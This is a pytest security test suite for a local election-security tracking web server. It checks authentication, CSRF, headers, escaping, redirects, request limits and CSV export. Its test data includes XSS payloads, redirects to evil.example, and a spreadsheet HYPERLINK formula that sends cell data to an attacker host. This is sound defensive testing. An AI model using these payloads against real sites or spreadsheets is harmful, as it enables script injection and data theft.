"""electsec-serve is safe by default: token, session cookie, form tokens, headers, escaping,
bounded requests, clear refusals, and nothing recorded by a refused request."""
import html.parser
import re
import socket
import subprocess

import pytest

import electsec
from conftest import SERVE, Server


def test_every_page_needs_the_token(server):
    for path in ["/", "/office/us-xx-c1", "/state", "/state/offices.csv", "/guide", "/nowhere"]:
        status, headers, body = server.request("GET", path, bearer=False)
        assert status == 401, path
        assert "access token" in body
    status, _, _ = server.request("GET", "/", headers={"Authorization": "Bearer " + "0" * 64}, bearer=False)
    assert status == 401
    status, _, body = server.request("GET", "/login?token=" + "0" * 64, bearer=False)
    assert status == 401 and "not this server" in body
    status, _, _ = server.request("GET", "/login", bearer=False)
    assert status == 401


def test_signing_in_sets_a_strict_session_cookie(server):
    status, headers, _ = server.request("GET", f"/login?token={server.token}", bearer=False)
    assert status == 303 and headers["location"] == "/"
    cookie = headers["set-cookie"]
    assert re.fullmatch(r"electsec_session=[0-9a-f]{64}; Path=/; HttpOnly; SameSite=Strict", cookie)
    session = cookie.split(";")[0]
    status, _, body = server.request("GET", "/", headers={"Cookie": session}, bearer=False)
    assert status == 200 and "County 1" in body
    # Another cookie value is no session.
    status, _, _ = server.request("GET", "/", headers={"Cookie": "electsec_session=" + "1" * 64}, bearer=False)
    assert status == 401


def signed_in(server):
    _, headers, _ = server.request("GET", f"/login?token={server.token}", bearer=False)
    session = headers["set-cookie"].split(";")[0]
    _, _, body = server.request("GET", "/", headers={"Cookie": session}, bearer=False)
    csrf = re.search(r'name="csrf" value="([0-9a-f]{64})"', body).group(1)
    return session, csrf


def test_forms_need_their_token(server, store_path):
    session, csrf = signed_in(server)
    form = {"action": "backups.l1.1", "status": "done", "note": "n"}
    for fields in [form, {**form, "csrf": "0" * 64}, {**form, "csrf": ""}]:
        status, _, body = server.request("POST", "/office/us-xx-c6/status", body=fields,
                                         headers={"Cookie": session}, bearer=False)
        assert status == 403 and "Reload the page" in body
    with electsec.Store.open(str(store_path)) as s:
        assert "backups.l1.1" not in s.assessment("us-xx-c6").statuses
    status, headers, _ = server.request("POST", "/office/us-xx-c6/status", body={**form, "csrf": csrf},
                                        headers={"Cookie": session}, bearer=False)
    assert status == 303
    with electsec.Store.open(str(store_path)) as s:
        assert s.assessment("us-xx-c6").statuses["backups.l1.1"].note == "n"


def test_every_response_carries_the_security_headers(server):
    for path in ["/", "/state", "/guide/practice/backups", "/office/nope", "/static/style.css"]:
        _, headers, _ = server.request("GET", path)
        csp = headers["content-security-policy"]
        assert "default-src 'none'" in csp and "script-src" not in csp, path
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
    _, headers, _ = server.request("GET", "/nowhere", bearer=False)
    assert "default-src 'none'" in headers["content-security-policy"]


class Markup(html.parser.HTMLParser):
    """The elements and attributes of a page, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def assert_harmless(page, where):
    markup = Markup(page)
    assert "script" not in markup.tags, where
    for name, value in markup.attributes:
        assert not name.startswith("on"), (where, name, value)
        if name in ("href", "src", "action"):
            assert not (value or "").strip().lower().startswith("javascript:"), (where, name, value)
    assert "\u202e" not in page, where
    return "".join(markup.text)


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "\u202eevil\u202c name",
    "</textarea><svg onload=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_users_type_is_escaped(server, text):
    office = "hostile-" + str(HOSTILE.index(text))
    status, _, body = server.request("POST", "/offices", body={"id": office, "name": text, "state": text,
                                                                "kind": "county", "maturity": "1"})
    assert status == 303, body
    status, _, _ = server.request("POST", f"/office/{office}/status",
                                  body={"action": "backups.l1.1", "status": "in_progress", "note": text})
    assert status == 303
    status, _, _ = server.request("POST", f"/office/{office}/systems",
                                  body={"op": "add", "component": "pollbooks", "connectedness": "network", "note": text})
    assert status == 303
    for path in ["/", f"/office/{office}", f"/office/{office}/plan", f"/office/{office}/practice/backups",
                 "/state", f"/office/{office}/peers", f"/office/{office}/systems"]:
        status, _, page = server.request("GET", path)
        assert status == 200, path
        text_shown = assert_harmless(page, path)
        if path == "/":
            # Bidirectional overrides are shown as escapes, not obeyed (html_escape's rule).
            assert text.replace("\u202e", "\\u202e").replace("\u202c", "\\u202c") in text_shown
    # A hostile search and a hostile id are shown escaped too.
    _, _, page = server.request("GET", "/guide/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert_harmless(page, "search")
    status, _, page = server.request("GET", "/office/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert status == 404
    assert_harmless(page, "unknown office")


def test_a_redirect_never_leaves_the_office(server):
    for back in ["https://evil.example/", "//evil.example/", "/office/us-xx-c1//evil", "/state", "javascript:x"]:
        status, headers, _ = server.request("POST", "/office/us-xx-c1/status",
                                            body={"action": "backups.l1.1", "status": "done", "back": back})
        assert status == 303 and headers["location"] == "/office/us-xx-c1/plan?saved=backups.l1.1", back


@pytest.mark.parametrize("path,fields,status,words", [
    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "finished"}, 400, "finished"),
    ("/office/us-xx-c1/status", {"action": "backups.l9.9", "status": "done"}, 404, "backups.l9.9"),
    ("/office/us-xx-c1/status", {"status": "done"}, 400, "'action'"),
    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "done", "note": "\u00e9" * 801}, 400, "800"),
    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "done", "note": b"\xff\xfe"}, 400,
     "note: not UTF-8"),
    ("/office/nobody/status", {"action": "backups.l1.1", "status": "done"}, 404, "nobody"),
    ("/office/us-xx-c1/questionnaire", {"s.l1.1": "maybe"}, 400, "yes or no"),
    ("/office/us-xx-c1/systems", {"op": "add", "component": "polbooks", "connectedness": "network"}, 404,
     "did you mean 'pollbooks'"),
    ("/office/us-xx-c1/systems", {"op": "add", "component": "ems", "connectedness": "wifi"}, 400, "wifi"),
    ("/office/us-xx-c1/systems", {"op": "grow", "component": "ems", "connectedness": "none"}, 400, "add or remove"),
    ("/office/us-xx-c1/systems", {"op": "add", "connectedness": "none"}, 400, "component"),
    ("/office/us-xx-c1/systems", {"op": "add", "component": "ems", "connectedness": "none", "note": "n" * 801}, 400,
     "800"),
    ("/office/us-xx-c1/systems", {"op": "remove", "component": "ems", "connectedness": "none"}, 409,
     "the profile has no ems (none)"),
    ("/office/nobody/systems", {"op": "add", "component": "ems", "connectedness": "none"}, 404, "nobody"),
    ("/office/us-xx-c1/questionnaire", {"s.l9.9": "yes"}, 404, "l9.9"),
    ("/offices", {"id": "us-xx-c1", "name": "Again", "state": "XX", "kind": "county", "maturity": "1"}, 409,
     "exists already"),
    ("/offices", {"id": "new", "name": "Bad\nname", "state": "XX", "kind": "county", "maturity": "1"}, 400,
     "one line"),
    ("/offices", {"id": "new", "name": "N", "state": "XX", "kind": "castle", "maturity": "1"}, 400, "castle"),
    ("/offices", {"id": "a/b", "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
    ("/offices", {"id": "..", "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
    ("/offices", {"id": "x" * 201, "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
    ("/offices", {"id": "new", "name": "N" * 201, "state": "XX", "kind": "county", "maturity": "1"}, 400,
     "name: at most 200"),
    ("/offices", {"id": "new", "name": "N", "state": "XX", "kind": "county", "maturity": "4"}, 400, "4"),
])
def test_bad_forms_are_refused_and_record_nothing(server, store_path, path, fields, status, words):
    with electsec.Store.open(str(store_path)) as s:
        before = s.event_count
    got, _, body = server.request("POST", path, body=fields)
    assert got == status, body
    message = re.search(r'<p class="error">(.*?)</p>', body, re.S).group(1)
    assert words in message.replace("&#39;", "'").replace("&quot;", '"'), message
    with electsec.Store.open(str(store_path)) as s:
        assert s.event_count == before


@pytest.mark.parametrize("path,status", [
    ("/state?as_of=2026-13-01", 400), ("/state?as_of=yesterday", 400), ("/state?kind=castle", 400),
    ("/state?level=7", 400), ("/state?stalled=-1", 400), ("/state?since=2026-06-01&as_of=2026-01-01", 400),
    ("/state/nothing.csv", 404), ("/office/us-xx-c1/peers?peers=friends", 400),
    ("/office/us-xx-c1/download/secrets.txt", 404), ("/guide/practice/nothing", 404), ("/guide/safeguard/99.9", 404),
])
def test_bad_queries_get_a_clear_page(server, path, status):
    got, headers, body = server.request("GET", path)
    assert got == status, body
    assert headers["content-type"].startswith("text/html") and '<p class="error">' in body


def test_requests_are_bounded(server):
    status, _, page = server.request("POST", "/office/us-xx-c1/status", body="note=" + "x" * 70000,
                                     headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 413 and "at most 800 characters" in page
    status, _, _ = server.request("GET", "/", headers={"X-Padding": "y" * 10000})
    assert status in (400, 431)
    for raw in [b"GARBAGE\r\n\r\n", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
                b"\x00\xff\xfe\r\n\r\n", b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n\r\n"]:
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
            sock.sendall(raw)
            reply = sock.recv(200)
        assert reply == b"" or reply.startswith(b"HTTP/1.1 4"), reply
    status, _, _ = server.request("GET", "/")
    assert status == 200  # still serving


def test_the_request_rate_is_bounded_and_strangers_cannot_use_it_up(store_path):
    s = Server(store_path, "--quiet", "--max-rate", "5")
    try:
        # Requests without the token are counted apart: a flood of them ...
        strangers = [s.request("GET", "/guide", bearer=False)[0] for _ in range(12)]
        assert strangers[:5] == [401] * 5 and 429 in strangers
        # ... leaves the signed-in program its own share.
        statuses = [s.request("GET", "/guide")[0] for _ in range(12)]
        assert statuses[:5] == [200] * 5 and 429 in statuses
        status, headers, _ = s.request("GET", "/guide")
        assert status == 429 and headers["retry-after"] == "1"
    finally:
        assert s.stop()[0] == 0


def test_listening_beyond_this_machine_warns(store_path):
    # 192.0.2.1 is a documentation address no machine has: the warning comes, then the
    # refusal, and nothing ever listens beyond 127.0.0.1.
    run = subprocess.run([SERVE, str(store_path), "--listen", "192.0.2.1", "--port", "0"], capture_output=True,
                         text=True, timeout=30)
    assert run.returncode == 1
    assert "warning: listening on 192.0.2.1" in run.stderr and "cannot listen" in run.stderr


@pytest.mark.parametrize("args,code,words", [
    ([], 2, "name the history store"),
    (["{store}", "--port", "http"], 2, "--port: expected a whole number"),
    (["{store}", "--port", "70000"], 2, "--port"),
    (["{store}", "--max-rate", "0"], 2, "--max-rate"),
    (["{store}", "--colour"], 2, "unknown option '--colour'"),
    (["{store}", "other.db"], 2, "one store only"),
    (["{missing}"], 1, "--create"),
    (["{not_a_store}"], 1, "not_a_store.txt"),
])
def test_start_up_errors_are_one_clear_line(tmp_path, store_path, args, code, words):
    (tmp_path / "not_a_store.txt").write_text("hello\n")
    names = {"store": str(store_path), "missing": str(tmp_path / "missing.db"),
             "not_a_store": str(tmp_path / "not_a_store.txt")}
    run = subprocess.run([SERVE, *[a.format(**names) for a in args]], capture_output=True, text=True, timeout=30)
    assert run.returncode == code
    assert words in run.stderr.splitlines()[0]
    assert not (tmp_path / "missing.db").exists()


def test_create_makes_a_new_store(tmp_path):
    s = Server(tmp_path / "new.db", "--quiet", "--create")
    try:
        status, _, body = s.request("GET", "/")
        assert status == 200 and "Nothing to list" in body
    finally:
        assert s.stop()[0] == 0
    with electsec.Store.open(str(tmp_path / "new.db")) as store:
        assert store.offices() == []


def test_csv_cells_that_a_spreadsheet_would_run_are_shown_as_text(server):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    status, _, _ = server.request("POST", "/offices", body={"id": "csv-inj", "name": formula, "state": "@XX",
                                                             "kind": "county", "maturity": "1"})
    assert status == 303
    _, _, body = server.request("GET", "/state/offices.csv")
    row = [line for line in body.splitlines() if line.startswith("csv-inj,")][0]
    assert row.startswith("""csv-inj,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@XX,""")


def test_an_unedited_note_stays_exactly_as_it_was(server, store_path):
    note = "line1\nline2\tTAB \x1b[31m red \u202e"
    with electsec.Store.open(str(store_path)) as s:
        s.set_status("us-xx-c6", "backups.l1.1", "in_progress", note=note)
    _, _, page = server.request("GET", "/office/us-xx-c6/practice/backups")
    shown = re.search(r'id="a-backups\.l1\.1".*?name="note" maxlength="800" value="([^"]*)"', page, re.S).group(1)
    shown = html.unescape(shown)
    assert "\n" not in shown and "\x1b" not in shown  # shown on one line, escapes visible
    # Only the status changes: the note comes back as shown, and is kept as it was.
    status, _, _ = server.request("POST", "/office/us-xx-c6/status",
                                  body={"action": "backups.l1.1", "status": "done", "note": shown})
    assert status == 303
    with electsec.Store.open(str(store_path)) as s:
        kept = s.assessment("us-xx-c6").statuses["backups.l1.1"]
    assert kept.status == "done" and kept.note == note


def test_messages_do_not_show_the_stores_path(server, store_path):
    status, _, page = server.request("GET", "/office/us-xx-c1/peers?as_of=2026-01-04")
    assert status == 400 and "the store" in page and str(store_path) not in page


def test_an_office_added_twice_at_once_is_added_once(server, store_path):
    import threading
    form = {"id": "twice", "name": "Twice", "state": "XX", "kind": "county", "maturity": "1"}
    results = []
    threads = [threading.Thread(target=lambda: results.append(server.request("POST", "/offices", body=form)[0]))
               for _ in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(results) == [303] + [409] * 9
    with electsec.Store.open(str(store_path)) as s:
        assert len([e for e in s.history("twice") if e.subject == "jurisdiction"]) == 1


def test_a_questionnaire_with_too_few_answers_keeps_the_level(server, store_path):
    with electsec.Store.open(str(store_path)) as s:
        s.set_level("us-xx-c2", 2)
    status, headers, _ = server.request("POST", "/office/us-xx-c2/questionnaire",
                                        body={"s.l2.1": "yes", "s.l2.2": "yes", "record_level": "1"})
    assert status == 303 and headers["location"].endswith("saved=unsure")
    _, _, page = server.request("GET", headers["location"])
    assert "level was left as it was" in page
    with electsec.Store.open(str(store_path)) as s:
        a = s.assessment("us-xx-c2")
    assert int(a.maturity) == 2 and a.answers == {"l2.1": True, "l2.2": True}
